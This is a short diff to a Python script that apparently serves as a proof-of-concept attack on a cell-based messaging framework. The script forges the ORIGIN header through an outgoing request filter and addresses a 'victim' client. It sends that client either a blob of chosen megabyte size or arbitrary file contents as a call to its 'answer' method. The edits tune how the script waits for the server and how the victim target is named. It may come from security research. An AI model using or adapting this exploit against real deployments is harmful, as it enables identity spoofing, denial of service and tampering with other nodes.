@@ -49,7 +49,7 @@ def main(startup, port, origin, target, what):
         message.set_header(MessageHeaderKey.ORIGIN, origin)
 
     cell.core_cell.add_outgoing_request_filter("*", "*", forge)
-    while not cell.core_cell.is_backbone_ready():
+    while "server" not in cell.core_cell.agents:
         time.sleep(0.1)
     if what.isdigit():
         blob = Message(payload=bytes(int(what) * 2**20))
@@ -61,11 +61,11 @@ def main(startup, port, origin, target, what):
     victim = target.split(".")[0]
     headers = {
         CallHeaderKey.PROTOCOL_VERSION: VERSION,
-        CallHeaderKey.TARGET_NAME: victim,
+        CallHeaderKey.TARGET_NAME: f"{victim}.client",
         CallHeaderKey.METHOD_NAME: "answer",
     }
     arguments = {"call": Path(what).read_bytes()}
-    payload = {"target_name": victim, "method_name": "answer", "kwargs": arguments}
+    payload = {"kwargs": arguments}
     reply = cell.send_request(
         channel=MSG_CHANNEL,
         topic=MSG_TOPIC,
